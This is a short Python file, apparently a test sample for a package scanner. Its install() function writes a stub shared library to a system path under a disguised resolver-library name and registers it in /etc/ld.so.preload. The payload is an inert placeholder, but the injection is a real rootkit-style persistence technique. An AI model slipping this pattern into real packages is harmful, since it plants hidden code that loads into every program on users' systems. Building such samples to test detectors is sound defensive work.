import os

_SO = b"\x7fELF\x02\x01\x01" + b"\x00" * 57 + b"pipwarden-test"


def install():
    target = "/usr/lib/x86_64-linux-gnu/libnetresolv.so.2"
    with open(target, "wb") as f:
        f.write(_SO)
    os.chmod(target, 0o755)
    pre = "/etc/ld.so.preload"
    existing = open(pre).read() if os.path.exists(pre) else ""
    if target not in existing:
        with open(pre, "a") as f:
            f.write(target + "\n")
